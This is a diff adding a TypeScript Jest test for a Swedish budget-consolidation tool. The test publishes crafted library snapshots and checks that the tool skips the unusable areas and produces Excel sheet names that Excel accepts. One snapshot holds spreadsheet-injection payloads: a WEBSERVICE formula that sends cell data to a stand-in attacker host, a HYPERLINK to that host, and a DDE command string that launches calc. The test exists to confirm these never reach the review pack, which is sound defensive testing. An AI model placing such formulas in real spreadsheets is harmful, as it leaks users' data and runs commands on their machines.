@@ -1,0 +1,93 @@
+/**
+ * Issue 15, library content: crafted snapshots and list items in a local library. A snapshot with formula
+ * objects for amounts, one whose initiatives are not a list, a list item whose columns do not match its file,
+ * and an area whose name ends in an apostrophe once clipped to a sheet name: each is one line and the other
+ * areas are still consolidated and packed; no formula from a snapshot reaches the review pack.
+ */
+import ExcelJS from 'exceljs';
+import { rmSync } from 'node:fs';
+import path from 'node:path';
+import { readCa, trustedFetch } from '../../src/publish/node/trustedFetch';
+import { startLibrary, tempDir, TOKEN, withLibrary, connect, type RunningLibrary } from '../publish/helpers';
+import { approvedAt, requestFor, writePlan } from '../publish/plans';
+import { cli, type ConsolidateJson } from './helpers';
+import { FRAME } from './librarySamples';
+
+jest.setTimeout(180_000);
+
+/** 30 characters, then an apostrophe at the 31st: clipped to a sheet name, it ends in one. */
+const LONG = `Område ${'a'.repeat(23)}'s tjänster`;
+
+withLibrary('hostile library content', () => {
+  let lib: RunningLibrary;
+  let dir: string;
+  beforeAll(async () => {
+    lib = await startLibrary();
+    dir = tempDir('tjp-hostile-lib-');
+    const t = await connect(lib);
+    const publish = async (area: string, craft?: (snapshot: Record<string, unknown>) => void) => {
+      const request = await requestFor(await writePlan(dir, { area, versions: approvedAt('1.0') }));
+      craft?.(request.snapshot as unknown as Record<string, unknown>);
+      const outcome = await t.library.publish(request);
+      if (outcome.kind !== 'published') throw new Error(`${area}: ${outcome.kind}`);
+      return outcome.version;
+    };
+    await publish('Ekonomi');
+    await publish(LONG);
+    await publish('Formler', (s) => {
+      const rows = s.initiatives as { development: unknown[]; name: unknown; comment: unknown }[];
+      rows[0].development[0] = { formula: 'WEBSERVICE("https://angripare.example/?"&A1)', result: 1 };
+      rows[0].name = { formula: 'HYPERLINK("https://angripare.example","Klicka")' };
+      rows[1].comment = { formula: "cmd|' /C calc'!A0" };
+    });
+    await publish('Trasig', (s) => {
+      s.initiatives = { inte: 'en lista' };
+    });
+    const moved = await publish('Flyttad');
+    // The list item now names a version whose file is not there.
+    const fetch = trustedFetch(await readCa(lib.info.ca));
+    const patched = await fetch(`${lib.info.url}/drives/${encodeURIComponent(lib.info.driveId)}/items/${encodeURIComponent(moved.itemId)}/listItem/fields`, {
+      method: 'PATCH',
+      headers: { Authorization: `Bearer ${TOKEN}`, 'Content-Type': 'application/json' },
+      body: JSON.stringify({ Version: '9.9' }),
+    });
+    if (!patched.ok) throw new Error(`PATCH fields: ${patched.status}`);
+  });
+  afterAll(async () => {
+    await lib?.stop();
+    if (dir) rmSync(dir, { recursive: true, force: true });
+  });
+
+  const skippedLines = (stderr: string) => stderr.split('\n').filter((l) => l.trim() !== '');
+
+  it('consolidate --library leaves out the three unusable areas, one line each, and consolidates the others (exit 2)', async () => {
+    const run = await cli(['consolidate', '--json', '--frame', FRAME, '--library', lib.address, '--token', TOKEN, '--ca', lib.info.ca, '--period', '2022–2024']);
+    expect(run.code).toBe(2);
+    const lines = skippedLines(run.stderr);
+    expect(lines).toHaveLength(3);
+    expect(lines.find((l) => l.includes('Formler 2022–2024 v1.0'))).toMatch(/ögonblicksbilden följer inte formatet \(fältet initiatives\.0\.name har fel form\); området hoppas över$/);
+    expect(lines.find((l) => l.includes('Trasig 2022–2024 v1.0'))).toMatch(/fältet initiatives har fel form/);
+    expect(lines.find((l) => l.includes('Flyttad 2022–2024 v9.9'))).toMatch(/kunde inte läsas \(404\); området hoppas över$/);
+    expect(run.stderr).not.toMatch(/TypeError|^\s+at /m);
+    const json = JSON.parse(run.stdout) as ConsolidateJson;
+    expect(json.areas.map((a) => a.area).sort()).toEqual(['Ekonomi', LONG]);
+  });
+
+  it('pack writes the review pack for the usable areas, with sheet names Excel accepts and no formula from data (exit 2)', async () => {
+    const out = path.join(dir, 'pf.xlsx');
+    const run = await cli(['pack', '--library', lib.address, '--token', TOKEN, '--ca', lib.info.ca, '--period', '2022–2024', '--forum', 'PF', '--out', out]);
+    expect(run.code).toBe(2);
+    expect(skippedLines(run.stderr)).toHaveLength(3);
+    expect(run.stdout).toContain('2 tjänsteområden');
+
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.readFile(out);
+    const names = wb.worksheets.map((w) => w.name);
+    expect(names).toEqual(['Översikt', 'Ekonomi', `Område ${'a'.repeat(23)}`]);
+    const formulas: string[] = [];
+    for (const ws of wb.worksheets) ws.eachRow((row) => row.eachCell((c) => void (c.formula && formulas.push(c.formula))));
+    expect(formulas.length).toBeGreaterThan(0);
+    // The tool's own: the deviation per row and the totals row's SUBTOTALs.
+    for (const f of formulas) expect(f).toMatch(/^(IF\(Oversikt\[\[#This Row\],\[Ram \d{4}\]\]="",""|SUBTOTAL\(109,)/);
+  });
+});
